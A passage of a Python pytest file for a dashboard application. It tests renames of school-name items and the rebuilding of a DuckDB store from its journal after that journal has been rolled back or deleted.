            con, csv_bytes([HEADER, [SCHOOL, "须水小学", "2026年7月", "在建", ""]]), "o.csv", TODAY
        )
        assert pv.parsed.figures["item"].tolist() == ["须水中心小学"]
        assert con.execute(
            "SELECT old_name, new_name FROM item_renames ORDER BY seq, old_name"
        ).fetchall() == [
            ("中原区须水小学", "须水中心小学"),
            ("须水小学", "须水中心小学"),
        ]


def test_a_rename_the_journal_lost_comes_back_from_the_database_ahead_of_it(empty_ws):
    """The journal replaced by a copy from before a rename (the database is ahead of it):
    the rename is written back as an item line, not as a bare audit line, so the rebuild
    keeps the new name rather than replaying the upload under the old one."""
    from dashboard.services import item_names
    from dashboard.services.comments import find_target
    from dashboard.store import journal as journal_file

    if empty_ws.on_server:
        pytest.skip("a server's journal is a table of its database: it cannot fall behind it")
    with open_store(empty_ws) as con:
        upload(con, empty_ws, SCHOOLS)
        target = find_target(con, "new_schools", 2026)
    old = journal_file.path(empty_ws.data_dir).read_bytes()
    with open_store(empty_ws) as con:
        item_names.rename(empty_ws, con, renamer(), target, "中原区须水小学", "新校", AT)
    journal_file.path(empty_ws.data_dir).write_bytes(old)
    assert rebuild(empty_ws) == []
    with connect(empty_ws.db_path) as con:
        assert item_names.names(con, target) == ["郑州市第一〇七中学", "二七区实验学校", "新校"]
        line = json.loads(journal.raw_lines(empty_ws, con)[-1])
    assert (line["v"], line["kind"], line["data"]["from"], line["data"]["to"]) == (
        3,
        "item",
        "中原区须水小学",
        "新校",
    )


def test_a_lost_journal_written_again_longer_than_it_was_is_read_from_its_start(empty_ws):
    """Written again from the database, the journal's lines need not keep their lengths
    (a due date comes back as 2026-08-31T00:00:00): the old database's byte offset then
    fell inside a line, and the rebuild the README promises said 'damaged line, restore
    from a backup' and left dashboard.rebuild.duckdb behind."""
    from dashboard.store import journal as journal_file
    from tests.durable_state import tables

    if empty_ws.on_server:
        pytest.skip("a server's journal is a table of its database: it cannot be lost alone")
    with open_store(empty_ws) as con:
        upload(con, empty_ws, SCHOOLS)
    before = tables(empty_ws.db_path)
    lost = journal_file.path(empty_ws.data_dir)
    size = lost.stat().st_size
    lost.unlink()
    assert rebuild(empty_ws) == []
    assert lost.stat().st_size > size  # the case: the old offset falls inside a line
    after = tables(empty_ws.db_path)
    assert {k: v for k, v in after.items() if k != "meta"} == {
        k: v for k, v in before.items() if k != "meta"
    }
    assert [r for r in after["meta"] if r[0] != "journal_offset"] == [
        r for r in before["meta"] if r[0] != "journal_offset"
    ]
    assert not list(empty_ws.data_dir.glob("*.rebuild.duckdb"))
